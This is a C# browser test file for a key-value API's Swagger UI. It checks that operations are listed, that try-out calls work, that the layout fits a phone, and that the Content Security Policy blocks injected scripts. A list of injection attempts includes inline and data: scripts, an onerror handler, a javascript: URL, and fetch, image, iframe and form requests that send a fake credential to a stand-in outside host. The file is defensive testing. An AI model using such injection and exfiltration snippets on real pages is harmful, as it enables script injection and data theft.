using System.Text.Json;
using Kv.Api.Tests.Hosting;

namespace Kv.Api.Tests.OpenApi;

/// <summary>Swagger UI in a real browser: it works, and injected scripts do not.</summary>
internal sealed class SwaggerUiTests : BrowserTest
{
    private const string Operation = """document.querySelector('.opblock-get [data-path="/kv/{key}"]')?.closest('.opblock')""";

    private static readonly (string Attempt, string Directive)[] Attempts =
    [
        ("add('script', { textContent: 'ran()' })", "script-src-elem"),
        ("add('script', { src: elsewhere + 'its.js' })", "script-src-elem"),
        ("add('script', { src: 'data:text/javascript,ran()' })", "script-src-elem"),
        ("add('p', { innerHTML: '<img src=\"data:,\" onerror=\"ran()\">' })", "script-src-attr"),
        ("location = 'javascript:ran()'", "script-src-elem"),
        ("fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'a credential' }).then(ran, () => {})",
            "connect-src"),
        ("add('img', { src: elsewhere + '?a-credential', onerror: ran })", "img-src"),
        ("add('iframe', { src: elsewhere + '?a-credential', onload: ran })", "frame-src"),
        ("add('iframe', { name: 'there' }).onload = ran; add('form', { action: elsewhere, target: 'there' }).submit()",
            "form-action"),
    ];

    [Test]
    public async Task It_lists_every_operation_and_the_browser_reports_no_error()
    {
        await GoToSwaggerUi();

        var listed = await Page.Evaluate<string[]>(
            """
            [...document.querySelectorAll('.opblock-summary')].map(operation =>
                operation.querySelector('.opblock-summary-method').textContent + ' ' + operation.querySelector('[data-path]').dataset.path)
            """);
        Assert.That(listed, Is.EquivalentTo(await Documented()).And.Contains("GET /kv/{key}"));
        Assert.That(Page.Complaints, Is.Empty);
        Assert.That(Page.Requested, Has.All.StartsWith(Host.Address.ToString()).Or.StartsWith("data:"));
    }

    [Test]
    public async Task It_calls_the_operation_that_is_tried_out()
    {
        var key = KvHost.Unique("tried-");
        await Kv.Put(key, "the value that was tried");
        await GoToSwaggerUi();

        await Click(".opblock-summary-control");
        await Click(".try-out__btn");
        await Fill("key", key);
        await Click(".execute");

        await Page.Until(
            $"{Operation}.querySelector('.live-responses-table .response "
                + ".response-col_status')?.textContent.startsWith('200') === true");
        await Page.Until(
            $"{Operation}.querySelector('.live-responses-table').textContent.includes('the value that was tried')");
        Assert.That(Page.Complaints, Is.Empty);
    }

    [Test]
    public async Task It_fits_a_phone_and_its_schemas_are_folded()
    {
        const int width = 360;
        await Page.BePhone(width, 740);
        await GoToSwaggerUi();
        await Page.Until("document.querySelector('section.models') !== null");
        Assert.That(
            await Page.Evaluate<bool>("document.querySelector('section.models').classList.contains('is-open')"),
            Is.False);

        await Click(".opblock-summary-control");
        await Click(".try-out__btn");
        await Click(".execute");
        await Page.Until($"{Operation}.querySelector('.responses-table:not(.live-responses-table)') !== null");

        Assert.That(await Page.Evaluate<int>("document.documentElement.scrollWidth"), Is.EqualTo(width));
    }

    [Test]
    public async Task An_injected_script_neither_runs_nor_sends_data()
    {
        // Each attempt succeeds on a page without a policy. So only the policy stops it on Kv's page.
        await Page.Go(Elsewhere.Uri);
        foreach (var (attempt, _) in Attempts)
            Assert.That(await Try(attempt), Is.EqualTo("ran"), attempt);
        await GoToSwaggerUi();
        Elsewhere.Clear();

        using var all = Assert.EnterMultipleScope();
        foreach (var (attempt, directive) in Attempts)
            Assert.That(await Try(attempt), Is.EqualTo(directive), attempt);
        Assert.That(Elsewhere.Requests, Is.Empty);
    }

    // "ran", or the directive of the policy that the attempt violates.
    private Task<string?> Try(string attempt) => Page.Evaluate<string>(
        $$"""
        new Promise(done => {
            const elsewhere = '{{Elsewhere.Uri}}';
            const add = (name, members) => {
                const element = Object.assign(document.createElement(name), members);
                document.body.append(element);
                return element;
            };
            window.ran = () => done('ran');
            document.addEventListener('securitypolicyviolation', violation => done(violation.effectiveDirective), { once: true });
            {{attempt}};
        })
        """);

    private async Task GoToSwaggerUi()
    {
        await Page.Go(new Uri(Host.Address, "/swagger"));
        await Page.Until($"{Operation} !== undefined");
    }

    private async Task Click(string selector)
    {
        await Page.Until($"!!{Operation}.querySelector('{selector}')");
        await Page.Evaluate<object>($"{Operation}.querySelector('{selector}').click()");
    }

    private async Task Fill(string parameter, string text)
    {
        var input = $"{Operation}.querySelector('tr[data-param-name=\"{parameter}\"] input')";
        await Page.Until($"{input}?.disabled === false");
        await Page.Evaluate<object>($"{input}.focus(), {input}.select()");
        await Page.Type(text);
        // A field takes the typed text at once when it loses the focus.
        await Page.Until($"{input}.value === '{text}' && ({input}.blur(), true)");
    }

    private async Task<IEnumerable<string>> Documented() =>
        from path in (await Kv.Send(HttpMethod.Get, "/swagger/v1/swagger.json")).Json.GetProperty("paths")
            .EnumerateObject()
        from operation in path.Value.EnumerateObject()
        where operation.Value.ValueKind == JsonValueKind.Object
        select $"{operation.Name.ToUpperInvariant()} {path.Name}";
}
